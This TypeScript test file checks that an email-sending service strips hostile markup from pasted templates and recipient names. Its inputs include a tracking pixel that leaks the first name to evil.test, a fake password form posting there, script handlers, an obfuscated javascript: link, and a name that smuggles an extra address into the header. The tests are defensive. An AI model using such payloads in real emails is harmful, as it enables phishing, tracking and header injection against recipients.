import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '#server/testing/test-server.ts';
import { addBrand, type Brand } from './testing/brand.ts';
import { takeTurnOf } from './testing/take-turn.ts';

let server: TestServer;
let brand: Brand;
let made = 0;

beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());
beforeEach(async () => {
  made += 1;
  brand = await addBrand(server, `brand-${made}`);
});

/** The email that a person with these names gets. */
async function received(
  names: { firstName: string; lastName: string },
  written: Parameters<Brand['send']>[0],
) {
  await server.addPerson(brand.tenantId, { ...names, email: 'bo@example.test' });
  const id = await brand.send(written);
  await takeTurnOf(server, brand.tenantId, id);
  return server.database.inTenant(brand.tenantId, (db) =>
    db.selectFrom('mailbox').selectAll().executeTakeFirstOrThrow(),
  );
}

const plain = { firstName: 'Bo', lastName: 'Lee' };

it('a hostile mail that was pasted reaches people without anything that runs, loads, asks or leaves the mail', async () => {
  const { htmlBody } = await received(plain, {
    htmlTemplate: `<html><head><base href="https://evil.test"><link rel="stylesheet" href="https://evil.test/a.css">
      <style>@import "https://evil.test/b.css"; body { background: url(https://evil.test/c.png) }</style></head>
      <body onload="x()" background="https://evil.test/d.png"><p>Hello</p>
      <img src="https://evil.test/pixel.gif?who={{FIRST_NAME}}" width="1" height="1">
      <div style="position:fixed;top:0;background-image:url(https://evil.test/e.png)">over</div>
      <form action="https://evil.test/login"><input name="password"><button>Log in</button></form>
      <object data="https://evil.test/f.swf"></object><video src="https://evil.test/g.mp4"></video>
      <meta http-equiv="refresh" content="0;url=https://evil.test"><a href="jav&#x61;script:x()">go</a>
      <svg onload="x()"><image href="https://evil.test/h.png"/></svg></body></html>`,
    inlinableStyles: 'p { background: url(https://evil.test/i.png); color: red }',
    nonInlinableStyles: '@import "https://evil.test/j.css"; html { display: none }',
  });
  expect(htmlBody).toContain('Hello');
  expect(htmlBody).not.toMatch(
    /evil\.test|onload|<form|<input|<button|<object|<video|<svg|refresh/,
  );
  expect(htmlBody).not.toMatch(/javascript:|position:fixed|(^|[{}])html\{display/);
});

it('an email whose placeholders name each other ends, and fills each of them once', async () => {
  const { subject, htmlBody, textBody } = await received(
    { firstName: '{{LAST_NAME}}', lastName: '{{FIRST_NAME}}{{LAST_NAME}}' },
    { subject: '{{FIRST_NAME}}', htmlTemplate: '<p>{{{{FIRST_NAME}}}} {{LAST_NAME}}</p>' },
  );
  expect(subject).toBe('{{LAST_NAME}}');
  const shown = '{{{{LAST_NAME}}}} {{FIRST_NAME}}{{LAST_NAME}}';
  expect(htmlBody).toContain(`>${shown}<`);
  expect(textBody).toContain(shown);
});

it('names that are markup or headers are words in the body, in the subject and beside the address', async () => {
  const names = {
    firstName: '<script>x()</script>',
    lastName: 'Lee" <eve@evil.test>, "Eve',
  };
  const { recipient, subject, htmlBody } = await received(names, {
    subject: 'For {{FIRST_NAME}} {{LAST_NAME}}',
    htmlTemplate:
      '<p>{{FIRST_NAME}} {{LAST_NAME}}</p><p><a href="https://a.test/{{LAST_NAME}}">a</a></p>',
  });
  expect(subject).toBe(`For ${names.firstName} ${names.lastName}`);
  expect(recipient).toMatch(/ <bo@example\.test>$/);
  expect(htmlBody).toContain('&lt;script&gt;x()&lt;/script&gt; Lee&quot; &lt;eve@evil.test&gt;');
  expect(htmlBody).not.toContain('<script');
  expect(htmlBody).toContain('href="https://a.test/Lee%22%20%3Ceve%40evil.test%3E%2C%20%22Eve"');
});

it('a body of nothing but open elements is cleaned and laid out, or refused, and not waited for', async () => {
  const { htmlBody } = await received(plain, {
    htmlTemplate: `<p>Hello</p>${'<div><b>'.repeat(500)}deep`,
  });
  expect(htmlBody).toContain('deep');
});
